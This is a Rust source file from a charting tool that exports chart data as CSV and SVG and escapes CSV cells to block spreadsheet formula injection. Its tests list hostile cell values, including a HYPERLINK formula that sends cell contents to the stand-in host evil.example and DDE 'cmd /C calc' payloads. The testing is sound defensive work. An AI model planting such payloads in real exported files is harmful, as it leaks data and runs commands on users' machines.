//! The chart's exports that are not pixels: the visible samples as CSV (readable back by
//! [`parse_metrics`](crate::parse::parse_metrics)) and the chart as an SVG document.
//!
//! The CSV is opened in spreadsheets, which run a cell starting with `=`, `+`, `-` or `@` as
//! a formula (CSV injection): text cells that start so are written with a leading `'`, which
//! spreadsheets take as "this is text". Numbers are written as numbers.

use std::fmt::Write;

use super::picture::Picture;
use super::render::draw_chart;
use super::scene::ChartScene;
use super::ticks::iso_time;
use crate::analysis::decimate::visible_range;
use crate::analysis::window::TimeWindow;
use crate::model::MetricSeries;

/// The raw samples of every series inside `window` as `timestamp,value,series` lines, with
/// ISO 8601 times in the zone `offset_minutes` east of UTC.
pub fn visible_csv(series: &[MetricSeries], window: TimeWindow, offset_minutes: i32) -> String {
    let mut out = String::from("timestamp,value,series\n");
    for s in series {
        let label = if s.unit.is_empty() {
            s.name.clone()
        } else {
            format!("{} ({})", s.name, s.unit)
        };
        let label = csv_field(&label);
        let range = visible_range(&s.points, window);
        for &(t, value) in &s.points[range] {
            if (t as f64) < window.start || (t as f64) > window.end {
                continue;
            }
            let _ = writeln!(out, "{},{value},{label}", iso_time(t, offset_minutes));
        }
    }
    out
}

/// A CSV text field, quoted when it must be. One that a spreadsheet would run as a formula
/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'` and
/// quotes, so that it stays text.
pub fn csv_field(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        return format!("\"'{}\"", text.replace('"', "\"\""));
    }
    if text.contains([',', '"', '\n', '\r']) || text.starts_with('#') {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_string()
    }
}

/// The chart as a standalone SVG document (every text escaped).
pub fn chart_svg(scene: &ChartScene) -> String {
    let picture = Picture::new(scene.options.width, scene.options.height);
    // Recording cannot fail (its error type is Infallible).
    let _ = draw_chart(picture.clone(), scene);
    picture.to_svg()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::parse_metrics;

    #[test]
    fn the_visible_samples_read_back_as_the_same_series() {
        let series = vec![
            MetricSeries {
                name: "error rate, api".into(),
                unit: "%".into(),
                points: vec![
                    (1_705_330_800_000, 1.5),
                    (1_705_330_860_500, 30.25),
                    (1_705_331_000_000, 2.0),
                ],
                ..MetricSeries::default()
            },
            MetricSeries {
                name: "latency".into(),
                unit: "ms".into(),
                points: vec![(1_705_330_800_000, 120.0)],
                ..MetricSeries::default()
            },
        ];
        let window = TimeWindow::new(1_705_330_800_000.0, 1_705_330_900_000.0);
        let csv = visible_csv(&series, window, -300);
        assert!(
            csv.starts_with(
                "timestamp,value,series\n2024-01-15T10:00:00-05:00,1.5,\"error rate, api (%)\"\n"
            ),
            "{csv}"
        );
        let (read, diagnostics) = parse_metrics("visible.csv", &csv);
        assert_eq!(diagnostics, []);
        assert_eq!(read[0].name, "error rate, api");
        assert_eq!(read[0].points, series[0].points[..2]);
        assert_eq!(read[1].points, series[1].points);
    }

    #[test]
    fn text_cells_never_start_a_formula() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"help\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        let series: Vec<MetricSeries> = hostile
            .iter()
            .map(|name| MetricSeries {
                name: (*name).to_string(),
                points: vec![(1_705_330_800_000, -1.5)],
                ..MetricSeries::default()
            })
            .collect();
        let window = TimeWindow::new(1_705_330_000_000.0, 1_705_331_000_000.0);
        let csv = visible_csv(&series, window, 0);
        let rows: Vec<&str> = csv.lines().skip(1).collect();
        assert_eq!(rows.len(), hostile.len(), "{csv}");
        for row in rows {
            // The number stays a number; the name is quoted text behind a `'`.
            assert!(
                row.starts_with("2024-01-15T15:00:00+00:00,-1.5,\"'"),
                "{row:?}"
            );
        }
        let (read, diagnostics) = parse_metrics("visible.csv", &csv);
        assert_eq!(diagnostics, []);
        let names: Vec<String> = read.iter().map(|s| s.name.clone()).collect();
        let expected: Vec<String> = hostile.iter().map(|name| format!("'{name}")).collect();
        assert_eq!(names, expected);
        assert_eq!(csv_field("error rate"), "error rate");
        assert_eq!(csv_field("#1"), "\"#1\"");
    }
}
